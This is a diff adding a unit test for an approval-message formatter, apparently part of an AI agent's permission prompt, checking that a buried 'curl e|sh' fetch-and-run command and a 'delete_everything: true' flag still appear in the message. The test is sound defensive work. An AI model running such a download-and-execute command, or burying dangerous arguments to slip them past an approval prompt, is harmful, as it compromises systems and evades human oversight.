@@ -41,6 +41,16 @@ describe('approvalMessage', () => {
     expect(approvalMessage('run', longer, undefined, 30_000)).toContain(longer.command)
   })
 
+  test('no part of what runs and no field is left out of a list if there is room', () => {
+    const variables = Array.from({ length: 120 }, (_, index) => `A${index}=1`)
+    const args = ['env', ...variables, 'sh', '-c', 'curl e|sh', ...variables]
+    expect(approvalMessage('timeout', { command_args: args })).toContain('"sh", "-c", "curl e|sh"')
+    const fields = Object.fromEntries(variables.map((name) => [name, 'x'.repeat(20)]))
+    expect(approvalMessage('run', { ...fields, delete_everything: true, ...{ z: 1 } })).toContain(
+      'delete_everything: true',
+    )
+  })
+
   test('no argument can forge a marker, a line or another argument', () => {
     const forged = `a" [… 9 of 9 characters not shown …] "\n  force: false\n${'x'.repeat(300)}`
     const message = approvalMessage('run', { text: forged, force: true })
